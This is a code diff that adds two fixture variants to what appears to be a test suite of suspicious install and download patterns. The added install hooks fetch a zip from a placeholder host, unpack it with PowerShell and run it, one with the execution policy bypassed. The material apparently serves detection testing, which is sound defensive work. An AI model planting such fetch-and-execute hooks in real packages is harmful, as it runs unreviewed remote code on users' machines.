@@ -180,6 +180,9 @@ export const downloads: Variants = {
     'it is unpacked, and then its script is run': downloader(
       "spawnSync('powershell', ['-NoProfile', '-Command', `Expand-Archive '${zip}' '${dir}'; & '${dir}/${version}/run.ps1'`])",
     ),
+    'behind it the script that lay there is started': install(`
+      const { createWriteStream } = require('fs'), { spawnSync } = require('child_process'), { pipeline } = require('stream/promises'), zip = '/tmp/tool-x/tool.zip'
+      fetch('https://files.tools.invalid/tool.zip').then(async (r) => { await pipeline(r.body, createWriteStream(zip)); spawnSync('powershell', ['-Command', "Expand-Archive '" + zip + "' '/tmp/tool-x'; & /tmp/tool-x/tool.zip"]) })`),
     'what stands in the quotes is worked out': downloader(
       "spawnSync('powershell', ['-Command', `Expand-Archive \"$(${version})\" '${dir}'`])",
     ),
@@ -191,6 +194,9 @@ export const downloads: Variants = {
     'by PowerShell': downloader(
       "if (process.platform === 'win32') spawnSync('powershell.exe', ['-NoProfile', '-Command', `Expand-Archive -Force '${zip}' '${dir}'`])",
     ),
+    'from a host of its own': install(`
+      const { createWriteStream } = require('fs'), { spawnSync } = require('child_process'), { pipeline } = require('stream/promises'), zip = '/tmp/tool-x/tool.zip'
+      fetch('https://files.tools.invalid/tool.zip').then(async (r) => { await pipeline(r.body, createWriteStream(zip)); spawnSync('powershell', ['-ExecutionPolicy', 'Bypass', '-Command', "Expand-Archive '" + zip + "' '/tmp/tool-x'"]) })`),
     'in silence, with the names of its options': downloader(
       "execFileSync('powershell', ['-c', `$ProgressPreference = 'SilentlyContinue'; Expand-Archive -LiteralPath \"${zip}\" -DestinationPath \"${dir}\" -Force;`])",
     ),
